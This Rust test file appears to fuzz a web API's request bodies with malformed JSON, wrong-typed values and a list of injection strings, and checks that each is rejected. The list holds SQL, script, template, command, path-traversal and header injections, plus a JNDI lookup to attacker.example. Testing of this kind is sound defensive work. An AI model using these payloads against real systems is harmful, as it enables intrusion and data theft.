//! Bodies that nobody honest sends, to every call that takes one: no JSON, too much JSON, wrong kinds in every
//! field, and texts that mean something to a database, a page, a path or a terminal.

use super::document::{Body, Operation, kinds};
use super::scene::Scene;
use super::wire::{Call, MARK};
use serde_json::{Value, json};

/// Bodies that are no JSON object as it must be.
pub(super) fn malformed() -> Vec<Vec<u8>> {
    let deep = |open: &str, close: &str| {
        format!("{{\"a\":{}1{}}}", open.repeat(5_000), close.repeat(5_000)).into_bytes()
    };
    let keys: Vec<String> = (0..101).map(|n| format!("\"k{n}\":1")).collect();
    let mut bodies: Vec<Vec<u8>> = [
        "{",
        "}",
        "null",
        "true",
        "[]",
        "[{}]",
        "\"text\"",
        "0",
        "NaN",
        "{}{}",
        "{} x",
        "{\"a\":}",
        "{\"a\":1,}",
        "{'a':1}",
        "{a:1}",
        "{\"a\":01}",
        "{\"a\":+1}",
        "{\"a\":.5}",
        "{\"a\":1.}",
        "{\"a\":0x10}",
        "{\"a\":NaN}",
        "{\"a\":-Infinity}",
        "{\"a\":1}/* note */",
        "// note\n{\"a\":1}",
        "\u{feff}{\"a\":1}",
        "{\"a\":\"\n\"}",
        "{\"a\":\"\\x41\"}",
        "{\"a\":\"\\ud800\"}",
        "{\"\\ud800\":1}",
        "{\"a\":tru}",
        "{\"a\":1e}",
        "{\"a\" 1}",
        "{\"a\":1 \"b\":2}",
        "{,}",
        "<a>1</a>",
        "a=1&b=2",
        "--- \na: 1",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect();
    bodies.extend([
        b"\xff\xfe{\0}\0".to_vec(),
        b"{\"a\":\"\xc3\x28\"}".to_vec(),
        b"{\"a\":\"\xed\xa0\x80\"}".to_vec(),
        b"{\"a\":\"\xf4\x90\x80\x80\"}".to_vec(),
        b"\0\0\0\0".to_vec(),
        b"{\"a\":1}\0".to_vec(),
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00".to_vec(),
        deep("[", "]"),
        deep("{\"a\":", "}"),
        format!("{{{}}}", keys.join(",")).into_bytes(),
        format!("{{\"a\":\"{}\"}}", "x".repeat(10_001)).into_bytes(),
        format!("{{\"a\":{}}}", "9".repeat(20_000)).into_bytes(),
        format!("{{\"a\":1{}}}", " ".repeat(70_000)).into_bytes(),
    ]);
    bodies
}

/// A value of every kind of JSON, and whether it is of that kind in name only.
const KINDS: [(&str, &str); 9] = [
    ("null", "null"),
    ("boolean", "true"),
    ("boolean", "false"),
    ("number", "0"),
    ("number", "7.5"),
    ("array", "[]"),
    ("array", "[[1]]"),
    ("object", "{}"),
    ("object", "{\"$gt\":\"\"}"),
];

/// Numbers that no field takes.
const NUMBERS: [&str; 9] = [
    "-1",
    "1e400",
    "-1e400",
    "1e-9",
    "99999999999999999999",
    "1e99999999999",
    "0.000000001",
    "-0.01",
    "1e10",
];

/// Texts that are no number to us.
const DIGITS: [&str; 12] =
    ["", " ", "NaN", "Infinity", "-1", "+1", "1,0", " 1", "0x10", "1_0", "\u{ff11}", "1e400"];

/// Texts that mean something elsewhere.
fn injections() -> Vec<String> {
    let text = [
        "' OR '1'='1' -- ",
        "'; DROP TABLE users; --",
        "1) UNION SELECT password FROM users --",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "%{7*7}",
        "${jndi:ldap://attacker.example/a}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "http://127.0.0.1:1/",
        "; cat /etc/passwd",
        "| id",
        "`id`",
        "$(id)",
        "a\r\nX-Injected: 1",
        "a\nX-Injected: 1",
        "a\0b",
        "\u{202e}drow",
        "\u{2066}a\u{2069}",
        "\u{feff}",
        "\u{1f4a9}\u{200d}\u{1f4a9}",
        "%s%s%s%n",
        "%00",
        "*",
        "*)(uid=*))(|(uid=*",
        "\u{1b}[31mred",
        "\u{7f}",
        "=cmd|' /C calc'!A0",
        "\u{fdfa}",
        "A\u{30a}\u{30a}\u{30a}",
    ];
    let marked = text.iter().map(|text| format!("{MARK}{text}"));
    let long = [MARK.repeat(1_000), format!("{MARK}{}@example.com", "a".repeat(300))];
    marked.chain(long).collect()
}

/// A body with this in the place of one field, at any depth; and the schema of that field.
struct Replaced {
    text: String,
    schema: Value,
}

/// Puts `raw`, which need not be JSON, where a field stands.
fn replaced(body: &Body, raw: &dyn Fn(&Value) -> Vec<String>) -> Vec<Replaced> {
    const PLACE: &str = "\"the place of the field\"";
    let mut all = Vec::new();
    for (pointer, schema) in fields(&body.schema, &body.example, "") {
        let mut with = body.example.clone();
        let (parent, name) = pointer.rsplit_once('/').unwrap();
        with.pointer_mut(parent).unwrap()[name] = json!("the place of the field");
        for raw in raw(&schema) {
            let text = with.to_string().replace(PLACE, &raw);
            all.push(Replaced { text, schema: schema.clone() });
        }
    }
    all
}

/// Every field of a schema, those without an example too, as pointers into the example.
fn fields(schema: &Value, example: &Value, at: &str) -> Vec<(String, Value)> {
    let mut all = Vec::new();
    if schema["type"] == "array" && !example[0].is_null() {
        return fields(&schema["items"], &example[0], &format!("{at}/0"));
    }
    for (name, property) in schema["properties"].as_object().into_iter().flatten() {
        let place = format!("{at}/{name}");
        all.push((place.clone(), property.clone()));
        all.extend(fields(property, &example[name], &place));
    }
    all
}

fn allows(schema: &Value, kind: &str) -> bool {
    kinds(schema).iter().any(|allowed| allowed == kind)
}

/// Values of a wrong kind, and numbers and digits that are none.
fn wrong(schema: &Value) -> Vec<String> {
    let kinds =
        KINDS.iter().filter(|(kind, _)| !allows(schema, kind)).map(|(_, raw)| (*raw).to_owned());
    let below_zero = is_signed(schema);
    let numbers = NUMBERS
        .iter()
        .filter(|raw| !(below_zero && ["-1", "-0.01"].contains(raw)))
        .map(|raw| (*raw).to_owned());
    // A text may be any word there; one in the place of a number must be a number.
    let numeric = allows(schema, "number");
    let digits = DIGITS
        .iter()
        .filter(|_| numeric || !allows(schema, "string"))
        .filter(|text| !(below_zero && **text == "-1"))
        .map(|t| json!(t).to_string());
    kinds.chain(numbers).chain(digits).chain(["\"\\ud800\"".to_owned()]).collect()
}

/// Does it take amounts below zero, too?
fn is_signed(schema: &Value) -> bool {
    let either = schema["oneOf"].as_array().into_iter().flatten();
    either.filter_map(|one| one["pattern"].as_str()).any(|pattern| pattern.starts_with("^-?"))
}

/// May any text stand there? A reason is for people, and a password is whatever one likes.
fn is_free(schema: &Value) -> bool {
    schema["format"] == "password" || schema["minLength"] == 3
}

/// Sends a body as whom the call is meant for; most of it to accounts that are not named.
fn sent(
    scene: &Scene,
    operation: &Operation,
    body: impl Into<Vec<u8>>,
) -> (Call, crate::caller::Reply) {
    let path = operation.path("0123456789abcdef0123456789abcdef");
    let call = Call::to(&operation.method, &path).json(body);
    let reply = scene.rightly(operation, &call);
    (call, reply)
}

fn with_bodies(scene: &Scene) -> Vec<(Operation, Body)> {
    let all: Vec<(Operation, Body)> = scene
        .operations
        .iter()
        .filter_map(|operation| Some((operation.clone(), operation.body.clone()?)))
        .collect();
    assert!(all.len() >= 16, "{} calls take a body", all.len());
    all
}

#[test]
fn the_examples_of_the_description_are_understood() {
    let scene = Scene::with(3, 2);
    for (operation, body) in with_bodies(&scene) {
        let (call, reply) = sent(&scene, &operation, body.example.to_string());
        let refused = [400, 413, 415, 422].contains(&reply.status);
        assert!(!refused, "{}: {reply:?}", call.shown());
        scene.judge(&operation, &call, &reply);
    }
    scene.end();
}

#[test]
fn bodies_that_are_no_json_are_refused() {
    let scene = Scene::with(12, 10);
    for (operation, body) in with_bodies(&scene) {
        let mut bodies = malformed();
        let example = body.example.to_string();
        let (name, value) = body.example.as_object().unwrap().iter().next().map_or_else(
            || ("a".to_owned(), json!(1)),
            |(name, value)| (name.clone(), value.clone()),
        );
        // One key twice, in plain sight and in disguise.
        let disguised: String = name.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
        for twice in [json!(name).to_string(), format!("\"{disguised}\"")] {
            bodies.push(format!("{{\"{name}\":{value},{twice}:{value}}}").into_bytes());
        }
        bodies.push(example.as_bytes()[..example.len() - 1].to_vec());
        bodies.push(format!("{example}{example}").into_bytes());
        for bad in bodies {
            let (call, reply) = sent(&scene, &operation, bad);
            assert!([400, 413, 422].contains(&reply.status), "{}: {reply:?}", call.shown());
            scene.judge(&operation, &call, &reply);
        }
        for (header, value) in [
            ("Content-Type", "text/plain"),
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Type", "application/json; charset=utf-16"),
            ("Content-Encoding", "gzip"),
        ] {
            let path = operation.path("0");
            let call =
                Call::to(&operation.method, &path).json(example.clone()).header(header, value);
            let reply = scene.rightly(&operation, &call);
            assert_eq!(reply.status, 415, "{}: {reply:?}", call.shown());
            scene.judge(&operation, &call, &reply);
        }
    }
    scene.end();
}

#[test]
fn wrong_kinds_of_values_are_refused_in_every_field() {
    let scene = Scene::with(12, 12);
    for (operation, body) in with_bodies(&scene) {
        for Replaced { text, schema } in replaced(&body, &wrong) {
            let (call, reply) = sent(&scene, &operation, text);
            assert!(
                [400, 422].contains(&reply.outcome().0),
                "{schema}: {}: {reply:?}",
                call.shown()
            );
            scene.judge(&operation, &call, &reply);
        }
    }
    scene.end();
}

#[test]
fn texts_that_mean_something_elsewhere_mean_nothing_here() {
    let scene = Scene::with(12, 12);
    let quoted = |schema: &Value| match allows(schema, "string") {
        true => injections().iter().map(|text| json!(text).to_string()).collect(),
        false => injections().iter().take(1).map(|text| json!([text]).to_string()).collect(),
    };
    for (operation, body) in with_bodies(&scene) {
        for Replaced { text, schema } in replaced(&body, &quoted) {
            let (call, reply) = sent(&scene, &operation, text);
            assert!(reply.outcome().0 >= 400 || is_free(&schema), "{}: {reply:?}", call.shown());
            scene.judge(&operation, &call, &reply);
        }
    }
    scene.end();
}
